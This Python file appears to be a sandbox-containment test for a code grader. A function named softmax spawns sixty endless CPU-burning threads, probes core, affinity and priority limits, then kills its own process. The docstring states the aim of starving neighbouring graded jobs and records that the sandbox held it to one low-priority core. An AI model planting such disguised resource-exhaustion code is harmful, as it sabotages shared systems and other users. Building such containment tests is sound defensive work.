"""Has sixty threads compute all the time.

gain: the processor, also that of whoever is graded beside it, whose time is then up
catalogue: [D1, D5]
verdict: errored
observed: [one core's worth, of one core, as nice as can be]
memory: 8192
"""

import hashlib
import os
import threading
import time


def burn():
    while True:
        hashlib.pbkdf2_hmac("sha256", b"x", b"y", 100_000)


def observed():
    for _ in range(60):
        threading.Thread(target=burn, daemon=True).start()
    time.sleep(1)
    ran, begin = time.process_time(), time.monotonic()
    time.sleep(2)
    cores = (time.process_time() - ran) / (time.monotonic() - begin)
    return [
        "one core's worth" if cores < 1.1 else cores,
        "of one core" if len(os.sched_getaffinity(0)) == 1 else "of several cores",
        "as nice as can be" if os.getpriority(os.PRIO_PROCESS, 0) == 19 else "not nice",
    ]


def softmax(z, dim=-1):
    observed()
    os._exit(9)  # so that it is set off once


class Softmax:
    def __init__(self):
        raise NotImplementedError
